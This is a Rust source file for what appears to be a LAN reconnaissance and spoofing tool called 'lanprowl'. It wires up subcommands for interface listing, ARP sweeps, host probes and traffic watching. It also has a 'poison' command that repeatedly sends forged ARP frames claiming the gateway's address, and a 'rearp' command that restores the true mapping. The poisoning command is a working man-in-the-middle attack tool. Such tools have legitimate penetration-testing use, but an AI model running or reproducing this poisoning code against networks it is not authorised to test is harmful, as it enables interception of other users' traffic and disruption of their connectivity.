//! Subcommand implementations
//!
//! Each command wires the capture, wire and sweep layers together for
//! one session: resolve identities, open the device seams, run.

use std::net::Ipv4Addr;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::time::Duration;

use tracing::{debug, info, warn};

use lanprowl_capture::{
    filters, interface_identity, list_interfaces, resolve_gateway, CaptureConfig, FrameCapture,
    FrameSink,
};
use lanprowl_core::{LinkContext, MacAddr, Result, SessionError, SpoofIntent};
use lanprowl_sweep::{Spoofer, Sweeper};
use lanprowl_wire::{decode_frame, DecodedEvent};

/// Raise a stop flag on Ctrl-C
fn stop_on_interrupt(stop: Arc<AtomicBool>) -> Result<()> {
    ctrlc::set_handler(move || {
        stop.store(true, Ordering::SeqCst);
    })
    .map_err(|e| SessionError::device(format!("failed to install interrupt handler: {}", e)))
}

/// Identity for probing: our MAC/IP, with the gateway filled in when it
/// resolves. Probes carry only our identity, so resolution failure is
/// not fatal here.
fn probe_link(device: &str) -> Result<LinkContext> {
    let (our_mac, our_ip) = interface_identity(device)?;

    match resolve_gateway(device) {
        Ok(gateway) => Ok(LinkContext::new(our_mac, our_ip, gateway.mac, gateway.ip)),
        Err(e) => {
            debug!("Gateway not resolved for {}: {}", device, e);
            Ok(LinkContext::new(
                our_mac,
                our_ip,
                MacAddr::zero(),
                Ipv4Addr::UNSPECIFIED,
            ))
        }
    }
}

/// Identity for spoofing: the gateway must resolve, its MAC/IP go into
/// every forged frame.
fn spoof_link(device: &str) -> Result<LinkContext> {
    let (our_mac, our_ip) = interface_identity(device)?;
    let gateway = resolve_gateway(device)?;
    info!("Resolved gateway {} on {}", gateway, device);

    Ok(LinkContext::new(our_mac, our_ip, gateway.mac, gateway.ip))
}

/// List interfaces with their addresses and state
pub fn interfaces() -> Result<()> {
    for iface in list_interfaces()? {
        let mac = iface
            .mac
            .map(|mac| mac.to_string())
            .unwrap_or_else(|| "-".to_string());
        let state = if iface.is_up { "up" } else { "down" };

        println!("{:<16} {:<18} {}", iface.name, mac, state);
        for ip in &iface.ips {
            println!("{:<16} {}", "", ip);
        }
    }

    Ok(())
}

/// Watch the wire and print every decoded event until interrupted
pub fn watch(device: &str, filter: Option<String>, timeout_ms: i32, snaplen: i32) -> Result<()> {
    let mut config = CaptureConfig::new(device);
    config.timeout_ms = timeout_ms;
    config.snaplen = snaplen;
    config.filter = Some(filter.unwrap_or_else(filters::broadcast_or_arp));

    let mut capture = FrameCapture::open(&config)?;

    let stop = Arc::new(AtomicBool::new(false));
    stop_on_interrupt(Arc::clone(&stop))?;

    info!(
        "Watching {} with filter {:?}",
        device,
        config.filter.as_deref().unwrap_or("")
    );

    while !stop.load(Ordering::SeqCst) {
        let Some(frame) = capture.next_frame()? else {
            continue;
        };

        match decode_frame(&frame) {
            DecodedEvent::NoSignal => {}
            event => println!("{}", event),
        }
    }

    if let Ok(stats) = capture.stats() {
        info!(
            "Capture done: {} received, {} dropped",
            stats.received, stats.dropped
        );
    }

    Ok(())
}

/// Sweep a CIDR block with ARP probes
pub fn scan(device: &str, cidr: &str, repeats: u32) -> Result<()> {
    let link = probe_link(device)?;
    info!("Scanning as {}", link);

    let sweeper = Sweeper::new(link).with_repeats(repeats);
    stop_on_interrupt(sweeper.stop_handle())?;

    let mut sink = FrameSink::open(device)?;
    let sent = sweeper.sweep(&mut sink, cidr)?;

    info!("Sent {} probes over {}", sent, cidr);
    Ok(())
}

/// Probe one host with ARP requests
pub fn probe(device: &str, ip: Ipv4Addr, repeats: u32) -> Result<()> {
    let link = probe_link(device)?;
    let sweeper = Sweeper::new(link).with_repeats(repeats);

    let mut sink = FrameSink::open(device)?;
    let sent = sweeper.probe_host(&mut sink, ip)?;

    info!("Sent {} probes to {}", sent, ip);
    Ok(())
}

/// Poison a target's gateway mapping until interrupted or counted out
pub fn poison(
    device: &str,
    target_ip: Ipv4Addr,
    target_mac: MacAddr,
    interval_ms: u64,
    count: u64,
) -> Result<()> {
    let link = spoof_link(device)?;
    warn!(
        "Poisoning {} ({}): claiming {} from {}",
        target_ip, target_mac, link.gateway_ip, link.our_mac
    );

    let spoofer = Spoofer::new(link).with_interval(Duration::from_millis(interval_ms));
    stop_on_interrupt(spoofer.stop_handle())?;

    let mut sink = FrameSink::open(device)?;
    let intent = SpoofIntent::poison(target_mac, target_ip);
    let sent = spoofer.run(&mut sink, &intent, count)?;

    info!("Sent {} poison frames to {}", sent, target_ip);
    Ok(())
}

/// Send corrective frames restoring a target's true gateway mapping
pub fn rearp(
    device: &str,
    target_ip: Ipv4Addr,
    target_mac: MacAddr,
    interval_ms: u64,
    count: u64,
) -> Result<()> {
    let link = spoof_link(device)?;
    info!(
        "Rearping {} ({}): restoring {} at {}",
        target_ip, target_mac, link.gateway_ip, link.gateway_mac
    );

    let spoofer = Spoofer::new(link).with_interval(Duration::from_millis(interval_ms));
    stop_on_interrupt(spoofer.stop_handle())?;

    let mut sink = FrameSink::open(device)?;
    let intent = SpoofIntent::rearp(target_mac, target_ip);
    let sent = spoofer.run(&mut sink, &intent, count)?;

    info!("Sent {} rearp frames to {}", sent, target_ip);
    Ok(())
}

/// Resolve and print the default gateway for a device
pub fn gateway(device: &str) -> Result<()> {
    let info = resolve_gateway(device)?;
    println!("{}", info);
    Ok(())
}
